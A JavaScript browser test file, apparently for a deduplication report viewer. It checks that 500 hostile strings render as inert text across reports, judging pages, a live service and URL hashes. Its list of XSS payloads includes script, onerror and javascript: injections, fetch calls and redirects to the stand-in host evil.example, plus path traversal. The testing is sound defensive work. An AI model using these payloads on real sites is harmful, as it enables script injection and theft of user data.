// Five hundred texts of strangers as ids, names, words and passages, in both forms: each is shown as it is, and does nothing.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { assertQuiet, settled, start } from './browser.mjs';
import { dedupFacts, detectFacts, judgeFacts } from './made.mjs';
import { serve } from './server.mjs';

const does = 'window.pwned=1;alert(1);fetch("http://evil.example/")';
const shapes = [
  (i) => `<script>${does}</script>${i}`,
  (i) => `</script><script>${does}</script>${i}`,
  (i) => `<img src=x onerror='${does}'>${i}`,
  (i) => `<img src="http://evil.example/${i}.png">`,
  (i) => `"><svg/onload='${does}'>${i}`,
  (i) => `'-alert(${i})-'`,
  (i) => `javascript:${does}//${i}`,
  (i) => `data:text/html,<script>${does}</script>${i}`,
  (i) => `<iframe srcdoc="<script>parent.pwned=1</script>">${i}</iframe>`,
  (i) => `<a href="javascript:${does}" autofocus onfocus='${does}'>${i}</a>`,
  (i) => `<style>@import "http://evil.example/${i}.css";</style>`,
  (i) => `<link rel=stylesheet href=//evil.example/${i}.css>`,
  (i) => `<base href="http://evil.example/${i}/">`,
  (i) => `<meta http-equiv=refresh content="0;url=http://evil.example/${i}">`,
  (i) => `<form action=http://evil.example/><button autofocus>${i}</button></form>`,
  (i) => `{{constructor.constructor("${does}")()}}${i}`,
  (i) => `\${alert(${i})}`,
  (i) => `#/pair/pairs-1?a=<script>${i}`,
  (i) => `//evil.example/${i}`,
  (i) => `http://evil.example/?q="onmouseover=alert(${i})`,
  (i) => `\u202e${i} gnp.exe \u2066\u2067`,
  (i) => `\u0000\u0001\u001b[31m${i}`,
  (i) => `--><!--${i}<![CDATA[`,
  (i) => `&lt;script&gt;alert(${i})&lt;/script&gt;`,
  (i) => `%3Cscript%3Ealert(${i})%3C/script%3E`,
  (i) => `__proto__${i}`,
  (i) => `constructor${i}`,
  (i) => `\ud83d${i}\udc00`,
  (i) => `\u05d0\u05d1\u05d2 ${i} \u0627\u0644\u0646\u0635`,
  (i) => `a${'\u0301\u0302\u0303\u0304'.repeat(40)}${i}`,
  (i) => `${'x'.repeat(3000)}${i}`,
  (i) => `${'<b>'.repeat(400)}${i}`,
  (i) => `url("http://evil.example/${i}"); } * { background: url(//evil.example)`,
  (i) => `<object data=//evil.example/${i}></object><embed src=//evil.example>`,
  (i) => `<template><script>${does}</script></template>${i}`,
  (i) => `<math><mi xlink:href="javascript:${does}">${i}</mi></math>`,
  (i) => `<video src=x onerror='${does}'><source src=//evil.example/${i}></video>`,
  (i) => `<details open ontoggle='${does}'>${i}</details>`,
  (i) => `<input autofocus onfocus='${does}'>${i}`,
  (i) => `../../../etc/passwd${i}`,
];
const hostile = Array.from({ length: 500 }, (_, i) => shapes[i % shapes.length](i));

let browser;
before(async () => {
  browser = await start();
});
after(() => browser?.stop());

/** Elements that text alone must not make, and links that lead away. */
const intruders = (tab) => tab.evaluate(() => ({
  elements: [...document.querySelectorAll('#page :is(script, img, iframe, object, embed, link, base, meta, style, template, video, source, math, form[action], b:not(.fact b, .key b))')].map((element) => element.outerHTML.slice(0, 100)),
  links: [...document.querySelectorAll('#page a')].map((link) => link.getAttribute('href')).filter((href) => !href.startsWith('#') && !href.startsWith('blob:')),
  handlers: [...document.querySelectorAll('#page *')].filter((element) => [...element.attributes].some((attribute) => /^on/i.test(attribute.name))).length,
  pwned: 'pwned' in window,
}));
const clean = { elements: [], links: [], handlers: 0, pwned: false };

async function lookAt(tab, views) {
  for (const place of views) {
    await browser.go(tab, place);
    assert.deepEqual(await intruders(tab), clean, place);
    assert.equal(await tab.evaluate(() => document.documentElement.scrollWidth - window.innerWidth), 0, `${place} is no wider than the window`);
  }
}

test('in a report', async () => {
  let used = 0;
  const facts = dedupFacts({ clusters: 20, text: (i) => {
    used = Math.max(used, i + 1);
    return hostile[i % hostile.length];
  } });
  assert.ok(used >= hostile.length, `${used} texts`);
  const tab = await browser.openFile(facts);
  await lookAt(tab, ['#/overview', '#/map', '#/clusters', ...Array.from({ length: 6 }, (_, i) => `#/cluster/${3 * i + 1}`), '#/pairs', ...Array.from({ length: 6 }, (_, i) => `#/pair/pairs-${4 * i + 1}`)]);
  await browser.go(tab, '#/cluster/2');
  await tab.getByRole('button', { name: 'Keep' }).nth(1).click();
  await tab.getByRole('button', { name: 'Remove' }).nth(2).click();
  await lookAt(tab, ['#/decisions']);
  // Each text of the overview is there, letter by letter (the parser of HTML has its own way with NUL and lone surrogates, JSON does not).
  const told = await tab.evaluate(() => {
    location.hash = '#/overview';
    return new Promise((resolve) => setTimeout(() => resolve(document.querySelector('#page').textContent), 500));
  });
  const list = facts.sections.find((section) => section.name === 'largest').list;
  for (const item of list) assert.ok(told.includes(item.documents[0].id), JSON.stringify(item.documents[0].id));
  assertQuiet(tab);
});

test('in neighborhoods, and on a page on which to judge', async () => {
  const text = (i) => hostile[i % hostile.length];
  const tab = await browser.openFile(detectFacts({ sites: 60, text }));
  await lookAt(tab, ['#/neighborhoods', ...hostile.slice(0, shapes.length).map((at) => `#/neighborhoods?at=${encodeURIComponent(at.replace(/[\ud800-\udfff]/gu, ''))}`)]);
  assertQuiet(tab);
  const judging = await browser.openFile(judgeFacts({ pairs: 100, text }));
  for (let i = 0; i < 100; ++i) {
    if (i % 10 === 0) assert.deepEqual(await intruders(judging), clean);
    await judging.keyboard.press('s');
  }
  assert.equal(await judging.evaluate(() => document.documentElement.scrollWidth - window.innerWidth), 0);
  assert.match(await judging.textContent('.counted'), /100 judged/);
  assertQuiet(judging);
});

test('in the answers of a service', async () => {
  let used = 0;
  const server = await serve({ clusters: 300, text: (i) => {
    used = Math.max(used, i + 1);
    return hostile[i % hostile.length];
  } });
  const tab = await browser.openLive(server.address);
  await lookAt(tab, ['#/overview', '#/map', '#/map?by=source', '#/clusters', '#/cluster/1', '#/cluster/2', '#/cluster/3', '#/lists', '#/list/removed', '#/list/neighborhoods', '#/list/reuse', '#/record?name=x', '#/versions?url=x', '#/pair?a=1&b=2']);
  await browser.go(tab, '#/paste');
  await tab.getByLabel('Text').fill(hostile.join('\n'));
  await tab.getByRole('button', { name: 'Find' }).click();
  await tab.getByRole('button', { name: 'Side by side' }).first().click();
  await tab.waitForSelector('.sides .row.diff');
  assert.deepEqual(await intruders(tab), clean);
  assert.ok(used >= hostile.length, `${used} texts`);
  server.fail = (url) => url.pathname === '/tiles' && { status: 500, body: { error: { code: 'io', message: hostile[2] } } };
  await tab.evaluate(() => {
    location.hash = '#/map?by=cluster';
  });
  await tab.waitForSelector('.failure');
  assert.equal(await tab.textContent('.failure p'), hostile[2]);
  assertQuiet(tab, server.address);
  server.stop();
});

test('in the address', async () => {
  const tab = await browser.openFile(dedupFacts({ clusters: 2, members: 1, marks: 4 }));
  for (const strange of hostile.slice(0, shapes.length)) {
    const text = strange.replace(/[\ud800-\udfff]/gu, '');
    await tab.evaluate((hash) => {
      location.hash = hash;
    }, `#/clusters?search=${encodeURIComponent(text)}&kind=${encodeURIComponent(text)}`);
    await settled(tab);
    await tab.evaluate((hash) => {
      location.hash = hash;
    }, `#/pair/${encodeURIComponent(text)}`);
    await tab.waitForSelector('.failure');
    await tab.evaluate((hash) => {
      location.hash = hash;
    }, `#${text}`);
  }
  await settled(tab);
  assert.deepEqual(await intruders(tab), clean);
  assertQuiet(tab);
});
